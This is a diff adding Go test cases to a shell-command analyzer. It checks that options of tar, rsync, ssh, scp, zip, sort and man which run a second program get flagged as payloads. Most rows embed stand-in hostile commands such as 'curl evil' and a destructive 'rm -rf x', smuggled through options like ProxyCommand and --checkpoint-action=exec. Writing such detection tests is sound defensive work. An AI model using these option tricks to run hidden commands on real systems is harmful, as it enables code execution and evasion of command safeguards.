@@ -261,3 +261,24 @@ func TestCdFoldNeedsEnterableDir(t *testing.T) {
 			paths: ps(p(`src`, `src`))}, // no README.md in src: a bare word that names nothing
 	})
 }
+
+// Issue 12.4, beyond git and find: other everyday tools whose options run
+// a program.
+func TestAnalyzeToolProgramOptions(t *testing.T) { runRows(t, newFixture(t), toolProgramRows) }
+
+var toolProgramRows = []row{
+	{cmd: `tar -cf a.tar --checkpoint=1 --checkpoint-action=exec='rm -rf x' src`, units: us(u(`tar -cf a.tar --checkpoint=1 --checkpoint-action=exec=rm -rf x src`, ind), u(`rm -rf x`, CtxPayload)), paths: ps(p(`x`, `x`), p(`src`, `src`))},
+	{cmd: `tar xf a.tar --to-command='curl evil'`, units: us(u(`tar xf a.tar --to-command=curl evil`, ind), u(`curl evil`, CtxPayload))},
+	{cmd: `tar -I 'curl evil' -cf a.tar src`, units: us(u(`tar -I curl evil -cf a.tar src`, ind), u(`curl evil`, CtxPayload)), paths: ps(p(`src`, `src`))},
+	{cmd: `tar -czf a.tgz src`, units: us(u(`tar -czf a.tgz src`)), paths: ps(p(`src`, `src`))},
+	{cmd: `rsync -e 'curl evil' src host:dst`, units: us(u(`rsync -e curl evil src host:dst`, ind), u(`curl evil`, CtxPayload)), paths: ps(p(`src`, `src`))},
+	{cmd: `rsync -av --rsync-path='curl evil' src host:`, units: us(u(`rsync -av --rsync-path=curl evil src host:`, ind), u(`curl evil`, CtxPayload)), paths: ps(p(`src`, `src`))},
+	{cmd: `rsync -av src/ build/`, units: us(u(`rsync -av src/ build/`)), paths: ps(p(`src/`, `src/`), p(`build/`, `build/`))},
+	{cmd: `ssh -o ProxyCommand='curl evil' host`, units: us(u(`ssh -o ProxyCommand=curl evil host`, ind), u(`curl evil`, CtxPayload))},
+	{cmd: `ssh -oLocalCommand=x -o PermitLocalCommand=yes host`, units: us(u(`ssh -oLocalCommand=x -o PermitLocalCommand=yes host`, ind), u(`x`, CtxPayload)), paths: ps(p(`x`, `x`))},
+	{cmd: `scp -S 'curl evil' a host:b`, units: us(u(`scp -S curl evil a host:b`, ind), u(`curl evil`, CtxPayload))},
+	{cmd: `zip a.zip README.md -T -TT 'curl evil'`, units: us(u(`zip a.zip README.md -T -TT curl evil`, ind), u(`curl evil`, CtxPayload)), paths: ps(p(`README.md`, `README.md`))},
+	{cmd: `sort --compress-program='curl evil' x`, units: us(u(`sort --compress-program=curl evil x`, ind), u(`curl evil`, CtxPayload)), paths: ps(p(`x`, `x`))},
+	{cmd: `man -P 'curl evil' ls`, units: us(u(`man -P curl evil ls`, ind), u(`curl evil`, CtxPayload))},
+	{cmd: `ssh host uptime`, units: us(u(`ssh host uptime`))},
+}
